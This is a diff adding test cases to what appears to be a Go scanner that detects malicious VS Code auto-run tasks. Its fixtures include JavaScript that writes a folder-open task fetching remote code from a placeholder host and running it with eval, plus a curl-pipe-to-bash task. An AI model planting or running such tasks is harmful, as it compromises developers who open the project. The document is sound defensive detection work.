@@ -219,6 +219,10 @@ fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "
 			"templates/task.json": `{"label": "watch", "command": "", "runOptions": {"runOn": "folderOpen"}}`,
 			"i.js": `const fs=require("fs"),path=require("path"); const dir = path.join(process.env.INIT_CWD, ".vscode"); const task = JSON.parse(fs.readFileSync(path.join(__dirname, "templates", "task.json"), "utf8")); task.command = cmd();
 fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [task]})); fs.writeFileSync(path.join(dir, "settings.json"), JSON.stringify({"task.allowAutomaticTasks": "on"}))`}, finding.SeverityCritical},
+		// the task's node -e script kept apart from its flag; a task that
+		// runs the project's own script that way is a scaffold's
+		{"vscode_task_node_args", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "node", args: ["-e", "require('https').get('https://x.invalid/r', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })"], runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
+		{"vscode_task_node_local", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "node", args: ["-e", "require('./scripts/dev.js')"], runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityMedium},
 		{"vscode_task_curl", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "curl -s https://x.invalid/s | bash", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
 		// the task kept by a module the writer loads, written at install;
 		// a scaffolder whose task module only builds
